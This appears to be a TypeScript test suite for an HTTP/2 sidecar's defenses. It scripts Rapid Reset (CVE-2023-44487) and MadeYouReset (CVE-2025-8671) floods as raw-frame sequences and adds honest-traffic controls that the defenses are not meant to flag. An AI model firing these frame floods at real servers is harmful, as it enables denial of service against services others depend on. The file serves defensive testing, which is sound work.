import { END_HEADERS, END_STREAM, frame, literals, Type, uint32 } from '../../http2/raw-peer.ts';
import { type Attack, absorbed, calm, type Seen, served, type Variant } from './attack.ts';
import type { Attacker } from './attacker.ts';
import { blockFor, headersFrame, open, streams, whole } from './requests.ts';

const resetFrame = (id: number, code = 8): Buffer => frame(Type.RST_STREAM, 0, id, uint32(code));

/** Streams at a time: a connection takes a thousand, and what was answered or reset must be read meanwhile. */
const batch = 250;

/** So many streams made of what `of` says, until the other side has had enough. */
const manyStreams = async (attacker: Attacker, count: number, of: (id: number) => readonly Buffer[]): Promise<Seen> => {
  const peer = await attacker.open();
  for (let sent = 0; sent < count && !peer.ended; sent += batch) {
    await peer.flood(streams(batch, of, 1 + 2 * sent));
    if (!peer.ended) await peer.roundTrip();
  }
  return await peer.outcome();
};

const rapid = (attacker: Attacker, resets: number): Promise<Seen> => {
  const block = blockFor(attacker, 'Hold');
  return manyStreams(attacker, resets, (id) => [headersFrame(id, block, open), resetFrame(id)]);
};

export const rapidReset: Attack = {
  name: 'rapid reset',
  known: 'CVE-2023-44487',
  comparedWith: 'calls',
  many: true,
  variants: [
    {
      name: 'a stream, and its reset at once',
      answers: [calm(/rapid reset/)],
      counters: ['http2.rapid_reset'],
      send: (attacker) => rapid(attacker, attacker.target.resetBurst * 1.5),
    },
    {
      name: 'streams that claim that their deadline has passed',
      answers: [calm(/rapid reset/)],
      counters: ['http2.rapid_reset'],
      send: (attacker) => {
        const block = blockFor(attacker, 'Hold', [['grpc-timeout', '1n']]);
        return manyStreams(attacker, attacker.target.resetBurst * 6, (id) => [headersFrame(id, block, open), resetFrame(id)]);
      },
    },
  ],
};

/** What makes the sidecar reset a stream. */
const provoked = (name: string, of: (attacker: Attacker) => (id: number) => readonly Buffer[]): Variant => ({
  name,
  answers: [calm(/too many streams had to be reset/)],
  counters: ['http2.rapid_reset'],
  send: (attacker) => manyStreams(attacker, attacker.target.resetBurst * 1.5, of(attacker)),
});

export const madeYouReset: Attack = {
  name: 'made you reset',
  known: 'CVE-2025-8671',
  comparedWith: 'calls',
  variants: [
    provoked('a window that overflows', (attacker) => {
      const block = blockFor(attacker, 'Hold');
      return (id) => [headersFrame(id, block, open), frame(Type.WINDOW_UPDATE, 0, id, uint32(2 ** 31 - 1))];
    }),
    provoked('WINDOW_UPDATE of 0', (attacker) => {
      const block = blockFor(attacker, 'Hold');
      return (id) => [headersFrame(id, block, open), frame(Type.WINDOW_UPDATE, 0, id, uint32(0))];
    }),
    provoked('DATA behind the end', (attacker) => {
      const block = blockFor(attacker, 'Hold');
      return (id) => [headersFrame(id, block, whole), frame(Type.DATA, 0, id, Buffer.from('late'))];
    }),
    provoked('HEADERS behind the end', (attacker) => {
      const block = blockFor(attacker, 'Hold');
      return (id) => [headersFrame(id, block, whole), headersFrame(id, block, whole)];
    }),
    provoked('a stream that depends on itself', (attacker) => {
      const block = blockFor(attacker, 'Hold');
      return (id) => [headersFrame(id, block, open), frame(Type.PRIORITY, 0, id, Buffer.concat([uint32(id), Buffer.from([1])]))];
    }),
    provoked('PRIORITY of four bytes', (attacker) => {
      const block = blockFor(attacker, 'Hold');
      return (id) => [headersFrame(id, block, open), frame(Type.PRIORITY, 0, id, Buffer.alloc(4))];
    }),
    provoked('more DATA than content-length says', (attacker) => {
      const block = blockFor(attacker, 'Hold', [['content-length', '1']]);
      return (id) => [headersFrame(id, block, open), frame(Type.DATA, 0, id, Buffer.from('two'))];
    }),
    provoked('trailers with a pseudo-header', (attacker) => {
      const block = blockFor(attacker, 'Hold');
      const trailers = literals([[':path', '/']]);
      return (id) => [headersFrame(id, block, open), headersFrame(id, trailers, whole)];
    }),
    provoked('headers without any pseudo-header', () => {
      const block = literals([['x', 'y']]);
      return (id) => [headersFrame(id, block, END_HEADERS | END_STREAM)];
    }),
  ],
};

/** Calls that their callers give up after more than a second. */
export const honestLateCancel: Attack = {
  name: 'callers who give up after a second',
  known: 'not an attack',
  honest: true,
  comparedWith: 'none',
  variants: [
    {
      name: '500 streams',
      answers: [absorbed],
      counters: [],
      send: async (attacker) => {
        const peer = await attacker.open();
        const block = blockFor(attacker, 'Hold');
        await peer.flood(streams(500, (id) => [headersFrame(id, block, open)]));
        await peer.roundTrip();
        await attacker.pass(1_100);
        await peer.flood(streams(500, (id) => [resetFrame(id)]));
        return await peer.outcome();
      },
    },
  ],
};

const untilOneMs = async (attacker: Attacker, timeout: string, waitMs: number, count: number): Promise<Seen> => {
  const peer = await attacker.open();
  const block = blockFor(attacker, 'Hold', [['grpc-timeout', timeout]]);
  await peer.flood(streams(count, (id) => [headersFrame(id, block, open)]));
  await peer.roundTrip();
  await attacker.pass(waitMs);
  await peer.flood(streams(count, (id) => [resetFrame(id)]));
  return await peer.outcome();
};

/** Envoy 1.40 closes the connection. */
export const honestDeadlines: Attack = {
  name: '300 calls that reach their deadline at once',
  known: 'not an attack',
  honest: true,
  comparedWith: 'none',
  variants: [
    {
      name: 'and are reset by their caller a little before the sidecar ends them',
      answers: [absorbed],
      counters: [],
      send: (attacker) => untilOneMs(attacker, '500m', 470, 300),
    },
    {
      name: 'and are ended by the sidecar a little before their caller resets them',
      answers: [absorbed],
      counters: [],
      send: (attacker) => untilOneMs(attacker, '500m', 510, 300),
    },
  ],
};

/** Each call that they leave behind is reset upstream, where others' calls are under way on the same connection. */
export const honestDeparture: Attack = {
  name: 'clients that leave in the middle of many calls',
  known: 'not an attack',
  honest: true,
  comparedWith: 'none',
  variants: [
    {
      name: 'five of them at once, 400 calls each',
      answers: [served],
      counters: [],
      send: async (attacker) => {
        const block = blockFor(attacker, 'Hold');
        const leaving = await Promise.all(Array.from({ length: 5 }, () => attacker.open()));
        for (const peer of leaving) await peer.flood(streams(400, (id) => [headersFrame(id, block, open)]));
        for (const peer of leaving) await peer.roundTrip();
        const staying = await attacker.open();
        staying.calls.add(1);
        staying.headers(1, blockFor(attacker, 'Count'), open);
        await staying.roundTrip();
        for (const peer of leaving) peer.close();
        for (let i = 0; i < 20; i++) {
          await attacker.pass(10);
          if (!staying.ended) await staying.roundTrip();
        }
        staying.data(1, Buffer.from('still here'), true);
        await staying.answered();
        return await staying.outcome();
      },
    },
  ],
};
